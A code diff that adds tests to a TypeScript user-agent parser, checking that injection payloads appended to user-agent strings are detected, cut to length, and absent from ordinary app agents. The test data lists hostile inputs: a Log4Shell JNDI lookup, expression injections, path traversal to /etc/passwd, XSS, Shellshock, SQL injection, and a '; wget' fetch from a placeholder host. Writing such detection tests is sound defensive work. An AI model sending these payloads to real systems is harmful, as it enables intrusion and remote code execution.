@@ -205,6 +205,36 @@ test.each([
   [`Mozilla/5.0 (Windows NT 12.0; Win64; x64) ${CHROME} Safari/537.36`, '', 'Windows NT that does not exist'],
 ])('%s', (userAgent, dead, impossible) => expect(parseAgent(userAgent)).toMatchObject({ dead, impossible }))
 
+describe('payloads against readers of logs', () => {
+  const payloadOf = (added: string) => parseAgent(`${AGENT.chrome} ${added}`).payload
+  test.each([
+    '${jndi:ldap://x.example/a}',
+    '#{T(java.lang.Runtime)}',
+    '%{(#a=1)}',
+    String.raw`..\..\windows`,
+    '../etc/passwd',
+    '<script>alert(1)</script>',
+    '<?php system(1)',
+    '() { :;}; echo',
+    "' OR '1'='1",
+    '1 UNION ALL SELECT NULL',
+    '1; WAITFOR DELAY 5',
+    'sleep( 5)',
+    '; wget http://x.example/a',
+    '| id -u',
+  ])('%s', (added) => expect(payloadOf(added)).not.toBe(''))
+
+  test('are cut', () => expect(payloadOf(`\${${'x:'.repeat(40)}}`)).toHaveLength(60))
+
+  test.each([
+    '[FBAN/FBIOS;FBDV/iPhone14,5;FBSS/3;FBID/phone]',
+    '||| ReqID: 472 | TestId: 10 | Initiator: https://store.example',
+    'Instagram 390.0.0.0 (iPhone14,5; iOS 18_6; de_DE; scale=3.00)',
+    "L'Equipe/9.1 (select or union)",
+    'Build/{release}',
+  ])('people’s agents hold none: %s', (added) => expect(payloadOf(added)).toBe(''))
+})
+
 describe('any text', () => {
   test('never throws; texts are well-formed and bounded', () => {
     const part = fc.oneof(
